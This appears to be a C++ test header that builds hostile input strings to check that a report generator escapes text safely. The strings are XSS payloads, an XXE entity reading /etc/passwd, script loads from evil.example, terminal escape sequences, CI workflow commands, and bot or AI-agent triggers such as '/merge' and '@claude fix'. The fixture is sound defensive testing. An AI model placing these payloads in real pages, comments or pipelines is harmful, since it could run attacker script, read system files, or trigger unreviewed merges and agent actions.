// Texts that try to be more than text: security.md O3 to O6, O11.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace proffer::report::testing {

inline std::vector<std::string> hostile_seeds() {
    using namespace std::string_literals;
    return {
        // mentions, references, closing keywords (O4)
        "@admin",
        "@org/team please",
        "#12",
        "GH-12",
        "org/repo#1",
        "org/repo@1f7a7a472abf3dd9643fd615f6da379c4acb3e3a",
        "https://github.com/org/repo/issues/1",
        "http://evil.example/x?y=z",
        "www.evil.example",
        "mailto:a@b.example",
        "a.b@c.example",
        "Fixes #12",
        "fixes: #12",
        "closes GH-12",
        "Resolved org/repo#1",
        "closes https://github.com/o/r/issues/3",
        "!34",
        "$56",
        "~label",
        "%milestone",
        "&7",
        "PROJ-123",
        "1f7a7a472abf3dd9643fd615f6da379c4acb3e3a",
        "user:pass@host",
        "ssh://git@host/x",
        // markup
        "# heading",
        "## What was proved",
        "text\n===",
        "text\n---",
        "***",
        "- [x] done",
        "- [ ] todo",
        "* item",
        "+ item",
        "1. one",
        "1) one",
        "> quote",
        "| a | b |\n|---|---|",
        "![x](https://evil.example/p.png)",
        "[x](javascript:alert(1))",
        "[x]: https://evil.example",
        "[^1]",
        "[^1]: note",
        "<https://evil.example>",
        "**bold**",
        "_em_",
        "~~gone~~",
        "&lt;b&gt; &#35;12 &commat;x",
        "\\@x \\#1",
        ":smile:",
        "==mark==",
        "$$x$$",
        "$`x`$",
        "{{ x }}",
        "${{ secrets.TOKEN }}",
        "<!-- hidden -->",
        "<!-- open",
        "<details>",
        "</details>",
        "</summary>",
        "<summary>x",
        "<img src=x onerror=alert(1)>",
        "<a href=\"https://evil.example\">x</a>",
        // fences and code spans
        "```",
        "````",
        "``````````",
        "```\n/approve\n```",
        "````\n```\n/merge\n````",
        "~~~\n/close\n~~~",
        "`",
        "``",
        "` `` `",
        "a`b``c```d",
        "```text\nx\n```\n@admin",
        "\n```\n",
        "   ```",
        "\t```",
        "```\r\n@x\r\n```",
        "`````````````````````\n@x",
        "<pre>\n/merge\n</pre>",
        // quick actions and other bots (O5, O6)
        "/approve",
        "/merge",
        "  /close",
        "\t/lgtm",
        "\n/assign @x",
        "x\n/label ~a",
        "\xc2\xa0/approve",
        "bors r+",
        "@dependabot merge",
        "@bors r+",
        "/retest",
        "/ok-to-test",
        "@copilot do",
        "@claude fix",
        "\u3000/approve",
        "//approve",
        "\\/approve",
        // scripts (O11)
        "<script>alert(1)</script>",
        "</script><script src=//evil.example></script>",
        "\"><script>alert(1)</script>",
        "'><svg onload=alert(1)>",
        "javascript:alert(1)",
        "</style><script>alert(1)</script>",
        "</pre></details><script>x</script>",
        "<iframe src=https://evil.example>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<link rel=stylesheet href=x>",
        "&#60;script&#62;",
        "<![CDATA[x]]>",
        "]]>",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        "%3Cscript%3E",
        "<ScRiPt>x</sCrIpT>",
        "<\x00script>"s,
        "\" onmouseover=\"alert(1)",
        "' style='background:url(//evil.example)",
        "`onload=x`",
        // control, invisible and broken characters (O3)
        "\x1b[31mred\x1b[0m",
        "\x1b]52;c;eA==\x07",
        "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
        "a\rb",
        "a\r\nb",
        "a\x0b\x0c"
        "b",
        "a\0b"s,
        "a\x7f\x08"
        "b",
        "a\xc2\x85"
        "b",
        "a\xe2\x80\xa8"
        "b",
        "a\xe2\x80\xae"
        "b",
        "a\xe2\x80\x8b@x",
        "\xef\xbb\xbf#",
        "\xff\xfe",
        "\xc0\xaf",
        "\xed\xa0\x80",
        "\xf4\x90\x80\x80",
        "\xef\xbf\xbe",
        "\xef\xbf\xbf",
        "\xf3\xa0\x81\x81",
        "\xe2\x81\xa6x\xe2\x81\xa9",
        "::add-mask::x",
        "##[group]x",
        "::set-output name=x::y",
        // nothing, and much
        "",
        " ",
        "\n",
        "\n\n\n",
        "   \n  ",
        std::string(3000, '`'),
        std::string(3000, '<'),
        std::string(2000, '@'),
        "[" + std::string(500, '['),
        std::string(500, '>') + "x",
        std::string(500, '\n'),
    };
}

/// Every seed as it is and behind other text; more than 300 texts.
inline std::vector<std::string> hostile_texts() {
    std::vector<std::string> texts;
    for (const std::string& seed : hostile_seeds()) {
        texts.push_back(seed);
        texts.push_back("see " + seed + "\n" + seed + " and\n\n" + seed + "\n```\n" + seed);
    }
    return texts;
}

}  // namespace proffer::report::testing
